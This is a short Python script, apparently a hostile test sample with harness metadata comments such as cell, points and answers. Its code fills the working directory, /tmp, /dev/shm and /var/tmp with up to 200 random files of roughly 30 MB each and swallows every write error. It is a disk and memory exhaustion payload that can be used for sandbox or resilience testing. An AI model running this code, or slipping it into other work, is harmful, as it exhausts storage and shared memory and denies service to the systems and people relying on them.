# Fills the disk with large files.
# cell: q2-open
# points: q1=2 q2=3 q3=4
# beside: another participant
# answers: q1-twin q2-twin
# function: yes
import os

for number in range(200):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(os.path.join(folder, f"large{number}"), "wb") as file:
                file.write(os.urandom(1_000_000) * 30)
        except OSError:
            pass
